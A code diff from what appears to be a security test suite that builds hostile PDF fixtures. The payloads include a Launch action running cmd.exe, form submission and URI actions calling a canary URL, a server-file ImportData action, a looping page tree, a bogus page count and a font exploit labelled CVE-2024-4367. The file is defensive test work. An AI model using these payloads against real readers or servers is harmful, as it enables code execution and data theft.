@@ -149,7 +149,7 @@ function pdfs({ url, file }: Canary): HostileFile[] {
   const plain = Buffer.from(tinyPdf({ pages: [[{ x: 50, y: 700, text: 'Words of a page.' }]] })).toString('latin1')
   const withCatalog = (extra: string) => new Uint8Array(Buffer.from(plain.replace('/Type /Catalog', `/Type /Catalog ${extra}`), 'latin1'))
   const told = /Scripts, actions and attached files/
-  const pdf = (what: string, bytes: Uint8Array, outcome: HostileFile['outcome'] = 'text', tell: RegExp | undefined = told): HostileFile => {
+  const pdf = (what: string, bytes: Uint8Array, outcome: HostileFile['outcome'] = 'text', tell: RegExp | null = told): HostileFile => {
     return { what, fileName: 'a.pdf', bytes, outcome, ...(tell && { told: tell }) }
   }
   return [
@@ -157,13 +157,13 @@ function pdfs({ url, file }: Canary): HostileFile[] {
     pdf('a program on opening', withCatalog('/OpenAction << /S /Launch /F (cmd.exe) >>')),
     pdf('a form that is sent', withCatalog(`/AA << /WC << /S /SubmitForm /F (${url}/p) >> >>`)),
     pdf('a file inside', withCatalog('/Names << /EmbeddedFiles << /Names [(a) << /EF << /F 1 0 R >> /Type /EmbeddedFile >>] >> >>')),
-    pdf('an address on opening', withCatalog(`/OpenAction << /S /URI /URI (${url}/u) >>`), 'text', undefined),
+    pdf('an address on opening', withCatalog(`/OpenAction << /S /URI /URI (${url}/u) >>`), 'text', null),
     pdf('a form of a file of the server', withCatalog(`/OpenAction << /S /ImportData /F (${file}) >>`)),
     pdf(
       'a page tree that is its own child',
       new Uint8Array(Buffer.from(plain.replace('/Kids [5 0 R]', '/Kids [2 0 R]'), 'latin1')),
       'plain',
-      undefined,
+      null,
     ),
     pdf(
       'a font that runs code (CVE-2024-4367)',
@@ -174,14 +174,9 @@ function pdfs({ url, file }: Canary): HostileFile[] {
         ),
       ),
       'plain',
-      undefined,
+      null,
     ),
-    pdf(
-      'ten million pages, it says',
-      new Uint8Array(Buffer.from(plain.replace('/Count 1', '/Count 10000000'), 'latin1')),
-      'plain',
-      undefined,
-    ),
+    pdf('ten million pages, it says', new Uint8Array(Buffer.from(plain.replace('/Count 1', '/Count 10000000'), 'latin1')), 'plain', null),
   ]
 }
 
